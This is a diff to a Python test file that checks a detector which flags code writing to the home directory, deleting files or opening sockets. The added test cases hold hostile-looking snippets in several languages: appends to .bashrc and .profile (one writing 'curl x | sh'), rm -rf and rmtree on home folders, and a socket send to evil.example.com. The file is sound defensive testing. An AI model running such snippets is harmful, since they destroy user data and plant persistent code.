@@ -46,6 +46,23 @@ HIDDEN = EffectClass.UNTRUSTED_CODE
     # a raw socket to another machine
     ("import socket; s = socket.create_connection(('evil.example.com', 80)); s.send(b'x')",
      OUT, "evil.example.com"),
+    # paths built on the home directory (Python folded on its syntax tree, others as text)
+    ("import pathlib\npathlib.Path.home().joinpath('.bashrc').write_text('curl x | sh')",
+     LOSE, ".bashrc"),
+    ("import os\nopen(os.path.join(os.environ['HOME'], '.bashrc'), 'a').write('x')",
+     LOSE, ".bashrc"),
+    ("import os\nopen(os.getenv('HOME') + '/.profile', 'a').write('x')", LOSE, ".profile"),
+    ("import shutil, pathlib\nshutil.rmtree(pathlib.Path.home() / 'work')", LOSE, "work"),
+    ("import os\nos.chdir(os.path.expanduser('~'))\nopen('.bashrc', 'a').write('x')",
+     LOSE, ".bashrc"),
+    ("import subprocess, os\nsubprocess.run(['rm', '-rf', os.path.expanduser('~/work')])",
+     LOSE, "rm -rf"),
+    ("require('fs').writeFileSync(require('path').join(require('os').homedir(), '.bashrc'), "
+     "'x')", LOSE, ".bashrc"),
+    ("fs.appendFileSync(`${process.env.HOME}/.bashrc`, 'x')", LOSE, ".bashrc"),
+    ("File.write(File.join(Dir.home, '.bashrc'), 'x')", LOSE, ".bashrc"),
+    ('open(my $f, ">>", "$ENV{HOME}/.bashrc"); print $f "x";', LOSE, ".bashrc"),
+    ('file_put_contents(getenv("HOME") . "/.bashrc", "x");', LOSE, ".bashrc"),
 ])
 def test_writes_and_spawns_in_code_are_found(repo: Path, code, effect, said) -> None:
     e = code_effect(code, cwd=str(repo))
